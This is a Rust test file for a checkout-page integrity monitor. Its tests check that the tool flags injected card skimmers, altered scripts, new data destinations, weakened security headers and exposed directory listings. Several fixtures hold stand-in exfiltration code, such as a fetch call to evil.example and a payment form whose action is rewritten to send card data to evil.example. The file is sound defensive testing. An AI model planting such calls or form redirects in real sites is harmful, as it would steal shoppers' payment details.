//! What became different, how much it matters, and what a person can read of it.

use std::time::Duration;

use gabion_core::Severity;
use gabion_markup::PageClass;
use gabion_markup::answer::AnswerGuard;
use gabion_markup::report::Blocked;
use gabion_markup::script::Side;
use gabion_markup::sighting::{Seen, Sighting};
use gabion_pages::change::{ChangeFilter, ChangeKind, ChangeState};
use gabion_web::Page;

use crate::harness::{CHECKOUT, HEADERS, SKIMMER, World, address, ann, headers};

#[tokio::test]
async fn while_nobody_approved_anything_what_is_new_is_only_noted() {
    let world = World::new().await;
    world.take(vec![world.served(PageClass::Payment, "/checkout", CHECKOUT)]).await;
    let events = world.events_of("pages.script_appeared").await;
    assert_eq!(events, [Severity::Info; 4]);
}

#[tokio::test]
async fn an_added_skimmer_is_named_with_page_script_and_what_is_wrong_with_it() {
    let world = World::new().await;
    world.approved().await;
    let html = format!("{CHECKOUT}<script>{SKIMMER}</script>");
    world.take(vec![world.served(PageClass::Payment, "/checkout", &html)]).await;
    let change = world.change(ChangeKind::ScriptAppeared).await;
    assert_eq!((change.severity, change.state), (Severity::Critical, ChangeState::Open));
    assert_eq!(change.page, "https://shop.example/checkout");
    assert!(change.risks.iter().any(|risk| risk.kind == "skimmer-shape"), "{:?}", change.risks);
    let detail = world.pages.change(change.id).await.unwrap();
    let lines = detail.comparison.unwrap().lines;
    assert!(lines.changes.iter().any(|line| line.side == Side::New && line.text.contains("evil.example")));
    assert_eq!(world.events_of("pages.script_appeared").await.last(), Some(&Severity::Critical));
}

#[tokio::test]
async fn a_skimmer_is_critical_even_before_anybody_approved_anything() {
    let world = World::new().await;
    let html = format!("<script>{SKIMMER}</script>");
    world.take(vec![world.served(PageClass::Payment, "/checkout", &html)]).await;
    assert_eq!(world.change(ChangeKind::ScriptAppeared).await.severity, Severity::Critical);
}

#[tokio::test]
async fn a_changed_file_of_the_shop_is_told_with_its_difference() {
    let world = World::new().await;
    world.approved().await;
    let text = "start();\nfetch('https://evil.example/x');\nshow();";
    world.take(vec![world.script_served("/static/app.js?v=2", text)]).await;
    let change = world.change(ChangeKind::ScriptChanged).await;
    assert_eq!((change.severity, change.class), (Severity::Critical, PageClass::Payment));
    assert!(change.subject.ends_with("/static/app.js"));
    assert!(change.risks.iter().any(|risk| risk.detail.contains("evil.example")), "{:?}", change.risks);
    let detail = world.pages.change(change.id).await.unwrap();
    let lines = detail.comparison.unwrap().lines;
    assert_eq!((lines.added, lines.removed), (1, 0));
    let script = world.pages.script(change.script.unwrap()).await.unwrap();
    assert_eq!(script.versions.len(), 2);
    assert!(script.text.unwrap().contains("evil.example"));
    let (old, new) = (&script.versions[1].hash, &script.versions[0].hash);
    let again = world.pages.compare_versions(script.script.id, old, new).await.unwrap();
    assert_eq!(again.lines.added, 1);
}

#[tokio::test]
async fn a_file_that_goes_back_to_what_it_was_is_not_told_again() {
    let world = World::new().await;
    world.approved().await;
    for text in ["start();\nother();", "start();\nshow();", "start();\nother();"] {
        world.take(vec![world.script_served("/static/app.js", text)]).await;
        world.pass(Duration::from_secs(1));
    }
    assert_eq!(world.events_of("pages.script_changed").await.len(), 1);
}

#[tokio::test]
async fn a_changed_file_of_others_is_told_where_they_do_not_change_it_all_the_time() {
    let world = World::new().await;
    let html = format!("{CHECKOUT}<script src=https://widgets.example/w.js></script>");
    world.take(vec![world.served(PageClass::Payment, "/checkout", &html)]).await;
    world.approved().await;
    for (script, text) in [
        ("https://widgets.example/w.js", "a()"),
        ("https://js.stripe.com/v3/", "a()"),
        ("https://widgets.example/w.js", "b()"),
        ("https://js.stripe.com/v3/", "b()"),
    ] {
        world.take(vec![world.ran(PageClass::Payment, script, text)]).await;
    }
    assert_eq!(world.events_of("pages.script_changed").await, [Severity::Critical, Severity::Info]);
}

#[tokio::test]
async fn a_new_place_for_data_is_told() {
    let world = World::new().await;
    world.approved().await;
    let blocked = Blocked::Web(address("https://evil.example/collect"));
    world.take(vec![world.violation(PageClass::Payment, "connect-src", blocked)]).await;
    let change = world.change(ChangeKind::DestinationAppeared).await;
    assert_eq!(
        (change.severity, change.subject.as_str()),
        (Severity::Critical, "connect https://evil.example")
    );
    assert_eq!(change.seen_by.words(), ["report"]);
}

#[tokio::test]
async fn a_form_that_is_sent_elsewhere_is_told() {
    let world = World::new().await;
    world.approved().await;
    let html = CHECKOUT.replace("action=\"/pay\"", "action=\"https://evil.example/pay\"");
    world.take(vec![world.served(PageClass::Payment, "/checkout", &html)]).await;
    let change = world.change(ChangeKind::FormRedirected).await;
    assert_eq!((change.severity, change.subject.as_str()), (Severity::Critical, "https://evil.example"));
    assert!(change.sentence.contains("card"), "{}", change.sentence);
    let html = CHECKOUT.replace("action=\"/pay\"", "action=\"/pay-new\"");
    world.take(vec![world.served(PageClass::Payment, "/checkout", &html)]).await;
    assert_eq!(world.events_of("pages.form_redirected").await.len(), 2);
}

#[tokio::test]
async fn a_form_with_an_id_in_its_target_is_the_same_form() {
    let world = World::new().await;
    world.approved().await;
    for order in [100_001, 100_002, 100_003] {
        let html = format!("<form name=confirm action=/orders/{order}/confirm><input name=email></form>");
        world.take(vec![world.served(PageClass::Payment, "/checkout", &html)]).await;
    }
    assert_eq!(world.events_of("pages.form_redirected").await, []);
}

fn with_headers(world: &World, given: &[(&str, &str)]) -> Sighting {
    let mut page = world.page_seen(PageClass::Payment, "/checkout", CHECKOUT);
    page.headers = headers(given);
    world.sighting(Seen::Page(Box::new(page)))
}

#[tokio::test]
async fn a_header_that_is_gone_or_weaker_than_approved_is_told_once() {
    let world = World::new().await;
    world.take(vec![with_headers(&world, &HEADERS[..1])]).await;
    assert_eq!(world.events_of("pages.header_weakened").await, [], "nothing was approved yet");
    world.approved().await;
    let weaker = [("content-security-policy", "script-src *"), HEADERS[2]];
    world.take(vec![with_headers(&world, &weaker), with_headers(&world, &weaker)]).await;
    assert_eq!(world.events_of("pages.header_weakened").await, [Severity::Critical; 2]);
    let baselines = world.pages.baselines(&world.site).await.unwrap();
    assert_eq!(baselines[0].headers["x-frame-options"], "deny");
    assert_eq!(baselines[0].differences.len(), 2, "{:?}", baselines[0].differences);
    world.pages.approve_headers(&world.site, PageClass::Payment, ann()).await.unwrap();
    let filter = ChangeFilter { kind: Some(ChangeKind::HeaderWeakened), ..ChangeFilter::default() };
    let page = Page { cursor: None, limit: 10 };
    let told = world.pages.changes(&world.site, filter, page).await.unwrap().items;
    assert!(told.iter().all(|change| change.state == ChangeState::Accepted));
    world.take(vec![with_headers(&world, &[weaker[0], weaker[1], HEADERS[1]])]).await;
    assert_eq!(world.events_of("pages.header_weakened").await.len(), 2, "stronger is no loss");
}

#[tokio::test]
async fn a_policy_in_the_page_counts_as_a_header() {
    let world = World::new().await;
    let meta = "<meta http-equiv=content-security-policy content=\"connect-src 'self'\">";
    let page = |html: &str| world.served(PageClass::Payment, "/checkout", html);
    world.take(vec![page(&format!("<head>{meta}</head>{CHECKOUT}"))]).await;
    world.pages.approve_headers(&world.site, PageClass::Payment, ann()).await.unwrap();
    world.take(vec![page(CHECKOUT)]).await;
    assert_eq!(world.change(ChangeKind::HeaderWeakened).await.subject, "content-security-policy");
}

#[tokio::test]
async fn a_file_that_strangers_lie_about_stays_what_gabion_saw() {
    let world = World::new().await;
    world.approved().await;
    let app = world.script("/static/app.js").await;
    let widget = "https://widgets.example/w.js";
    let html = format!("{CHECKOUT}<script src={widget}></script>");
    let mut outside = world.script_served(widget, "real()");
    if let Seen::Script(script) = &mut outside.seen {
        script.by = gabion_markup::sighting::SeenBy::Outside;
    }
    world.take(vec![world.served(PageClass::Payment, "/checkout", &html), outside]).await;
    let real = world.script("w.js").await;
    for lie in 0..40 {
        world.pass(Duration::from_secs(1));
        world.take(vec![world.ran(PageClass::Payment, widget, &format!("lie{lie}()"))]).await;
        world.take(vec![world.ran(PageClass::Payment, "/static/app.js", "lie()")]).await;
    }
    assert_eq!(world.script("w.js").await.hash, real.hash);
    assert_eq!(world.script("/static/app.js").await.hash, app.hash);
    let detail = world.pages.script(real.id).await.unwrap();
    assert_eq!((detail.versions.len(), detail.text.as_deref()), (20, Some("real()")));
    assert_eq!(world.events_of("pages.script_changed").await.len(), 40, "they are told all the same");
}

#[tokio::test]
async fn error_pages_do_not_count_as_what_was_approved() {
    let world = World::new().await;
    world.approved().await;
    let mut page = world.page_seen(PageClass::Payment, "/checkout", "");
    (page.status, page.headers) = (500, headers(&[]));
    world.take(vec![world.sighting(Seen::Page(Box::new(page)))]).await;
    assert_eq!(world.events_of("pages.header_weakened").await, []);
}

#[tokio::test]
async fn a_page_that_says_too_much_is_told_with_how_to_fix_it() {
    let world = World::new().await;
    let mut guard = AnswerGuard::default();
    guard.write(b"<title>Index of /backup</title>");
    let seen = || Seen::Leak { address: address("/backup/"), leaks: AnswerGuard::default().finish() };
    let leak = Seen::Leak { address: address("/backup/?x=4242424242424242"), leaks: guard.finish() };
    world.take(vec![world.sighting(leak.clone()), world.sighting(leak), world.sighting(seen())]).await;
    let change = world.change(ChangeKind::LeakFound).await;
    assert_eq!(
        (change.subject.as_str(), change.page.as_str()),
        ("directory-listing", "https://shop.example/backup")
    );
    assert_eq!(world.changes().await.len(), 1);
}

#[tokio::test]
async fn an_authorized_script_that_is_gone_is_told_once() {
    let world = World::new().await;
    world.approved().await;
    world.pass(Duration::from_secs(8 * 24 * 3600));
    let html = CHECKOUT.replace("<script src=\"https://js.stripe.com/v3/\"></script>", "");
    world.take(vec![world.served(PageClass::Payment, "/checkout", &html)]).await;
    for _ in 0..2 {
        world.pages.sweep().await.unwrap();
        world.pass(Duration::from_secs(3600));
    }
    let change = world.change(ChangeKind::ScriptGone).await;
    assert!(change.subject.contains("stripe"));
    assert_eq!(world.events_of("pages.script_gone").await.len(), 1);
}

#[tokio::test]
async fn changes_are_listed_in_pages_and_filtered() {
    let world = World::new().await;
    world.take(vec![world.served(PageClass::Payment, "/checkout", CHECKOUT)]).await;
    world.take(vec![world.served(PageClass::Other, "/", "<script>x()</script>")]).await;
    let filter = ChangeFilter { class: Some(PageClass::Payment), ..ChangeFilter::default() };
    let mut page = Page { cursor: None, limit: 3 };
    let mut seen = Vec::new();
    loop {
        let listing = world.pages.changes(&world.site, filter.clone(), page.clone()).await.unwrap();
        seen.extend(listing.items.into_iter().map(|change| change.id));
        match listing.next_cursor {
            Some(cursor) => page.cursor = Some(cursor),
            None => break,
        }
    }
    let count = seen.len();
    seen.dedup();
    assert_eq!((seen.len(), count), (4, 4));
}
